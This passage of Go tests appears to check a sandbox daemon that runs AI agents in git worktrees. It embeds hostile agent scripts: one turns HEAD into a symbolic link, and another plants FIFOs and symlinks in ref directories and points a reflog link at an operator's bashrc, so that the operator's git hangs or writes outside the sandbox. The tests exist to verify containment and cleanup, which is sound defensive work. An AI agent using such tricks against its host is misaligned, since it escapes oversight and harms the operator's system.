	waitFileLine(t, filepath.Join(report, "second"), "second", 60*time.Second, d)
	if out, err := os.ReadFile(pwn); err == nil {
		t.Errorf("the nested repository's filter ran outside the sandbox:\n%s", out)
	}
	prompt, err := os.ReadFile(filepath.Join(repo, ".swarm", "logs", "mallory", "2.prompt.md"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(prompt), "dirty.txt") {
		t.Errorf("the prompt after the plant lists no dirty.txt: the daemon's git status did not run:\n%s", prompt)
	}
}

// symlinker's git writes HEAD as a symbolic link (core.preferSymlinkRefs,
// as its HOME's .gitconfig could say) when it goes back to its branch.
const symlinker = `cat >/dev/null
if [ -e "$REPORT/planted" ]; then echo second >> "$REPORT/second"; printf 'idle\nDONE\n'; exit 0; fi
git checkout -q -b swarm/mallory/x && git -c core.preferSymlinkRefs=true checkout -q swarm/mallory/work
[ -L "$(git rev-parse --git-dir)/HEAD" ] && touch "$REPORT/planted"
printf 'done\nDONE\n'`

// The daemon reads an agent's HEAD only as a file of its own, never
// through a link (a link there is what a sandbox plants); git writes HEAD
// as one under core.preferSymlinkRefs. The agent stops, and the reason,
// in the log, `swarmd status` and the event log, names the setting and
// says what to do; done, the agent runs again.
func TestAHEADThatIsALinkStopsItsAgentNamingWhy(t *testing.T) {
	requireBwrap(t)
	repo := gitRepo(t)
	report := t.TempDir()
	cfg := escapeConfig(t, repo, report, "", "", map[string]string{"hostile": symlinker}, "name: mallory, role: r, backend: hostile")
	d := startDaemon(t, cfg)
	const why = "its HEAD is a symbolic link (core.preferSymlinkRefs)"
	stopped := d.waitLine("mallory stopped", func(m map[string]any) bool {
		return m["agent"] == "mallory" && m["msg"] == "agent stopped"
	})
	if _, err := os.Stat(filepath.Join(report, "planted")); err != nil {
		t.Fatalf("the session left no link in HEAD's place: %v", err)
	}
	if r := fmt.Sprint(stopped["reason"]); !strings.Contains(r, why) || !strings.Contains(r, "symbolic-ref HEAD refs/heads/swarm/mallory/work") {
		t.Errorf("the stop's reason %q does not name the setting and the fix", r)
	}
	if out := mustCLI(t, nil, "status", "-c", cfg); !strings.Contains(out, why) {
		t.Errorf("swarmd status does not say why mallory stopped:\n%s", out)
	}
	// The event log is written by the daemon's journal, a moment later.
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(50 * time.Millisecond) {
		out := mustCLI(t, nil, "events", "--agent", "mallory", "-c", cfg)
		if strings.Contains(out, why) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the event log does not say why mallory stopped:\n%s", out)
		}
	}
	// What the reason says to do.
	wt := filepath.Join(repo, ".swarm", "worktrees", "mallory")
	gitOut(t, wt, "-c", "core.preferSymlinkRefs=false", "symbolic-ref", "HEAD", "refs/heads/swarm/mallory/work")
	mustCLI(t, nil, "start", "mallory", "-c", cfg)
	waitFileLine(t, filepath.Join(report, "second"), "second", 60*time.Second, d)
}

// refPlanter leaves in its branch directory (its sandbox's to write) what
// a git that lists the repository's refs opens and waits on: a FIFO, a
// link to one, and a link to a directory holding one; a FIFO in the place
// of its worktree's HEAD, which a git that lists the worktrees reads; and
// a link, in the place of a reflog, to a file of the operator's. Then it
// waits to be stopped.
const refPlanter = `cat >/dev/null
d="$(git rev-parse --git-common-dir)/refs/heads/swarm/mallory"
l="$(git rev-parse --git-common-dir)/logs/refs/heads/swarm/mallory"
g="$(git rev-parse --git-dir)"
mkfifo "$d/fifo" "$REPORT/fifo"
mkdir -p "$REPORT/dir" && mkfifo "$REPORT/dir/x"
ln -s "$REPORT/fifo" "$d/link" && ln -s "$REPORT/dir" "$d/dir"
rm -f "$g/HEAD" && mkfifo "$g/HEAD"
ln -sf "$OPERATORS" "$l/work"
touch "$REPORT/planted"
exec sleep 120`

// The operator's git gc (git log --all, git branch, git worktree list;
// the daemon's own push and fetch, and its switch of any other agent's
// worktree back to its branch) reads every ref of the repository and
// every worktree's HEAD, each opened as a file: a FIFO a session left in
// its branch directory or in HEAD's place held each of them for good,
// after the session too: the daemon looked at the agent's git
// directories again only before its next prompt, which a daemon stopped,
// or an agent stopped, or stopped by that very HEAD, never builds. When a
// sandbox ends, what git would follow out of them or wait on is removed.
func TestWhatASessionLeavesInItsGitDirectoriesHoldsNoGitUp(t *testing.T) {
	requireBwrap(t)
	repo := gitRepo(t)
	report := t.TempDir()
	operators := filepath.Join(t.TempDir(), "bashrc")
	if err := os.WriteFile(operators, []byte("# the operator's\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	cfg := escapeConfig(t, repo, report, "", "", map[string]string{"hostile": strings.ReplaceAll(refPlanter, "$OPERATORS", operators)},
		"name: mallory, role: r, backend: hostile")
	d := startDaemon(t, cfg)
	waitFileExists(t, filepath.Join(report, "planted"), d)
	_ = d.cmd.Process.Signal(os.Interrupt)
	if code := d.wait(30 * time.Second); code != 0 {
		t.Fatalf("the daemon's stop: exit %d", code)
	}
	for _, args := range [][]string{{"for-each-ref"}, {"log", "--all", "--oneline"}, {"worktree", "list"}, {"gc", "--quiet"}} {
		if out, err := gitWithin(repo, 30*time.Second, args...); err != nil {
			t.Errorf("the operator's git %s: %v\n%s", strings.Join(args, " "), err, out)
		}
	}
	if got, _ := os.ReadFile(operators); string(got) != "# the operator's\n" {
		t.Errorf("the operator's file now reads %q", got)
	}
}

// waitFileExists waits for path, as long as the daemon runs.
func waitFileExists(t *testing.T, path string, d *daemonProc) {
	t.Helper()
	for deadline := time.Now().Add(60 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		if _, err := os.Stat(path); err == nil {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("no %s after 60s; log:\n%s", path, d.log())
		}
	}
}

// gitWithin runs git in dir, as the operator would, in a process group of
// its own, which it kills if git has not ended within limit (a git waiting
// on a FIFO, and the gits it started).
func gitWithin(dir string, limit time.Duration, args ...string) ([]byte, error) {
	cmd := exec.Command("git", append([]string{"-C", dir}, args...)...)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := cmd.Start(); err != nil {
		return nil, err
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case err := <-done:
		return out.Bytes(), err
	case <-time.After(limit):
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		<-done
		return out.Bytes(), fmt.Errorf("still running after %s", limit)
	}
}
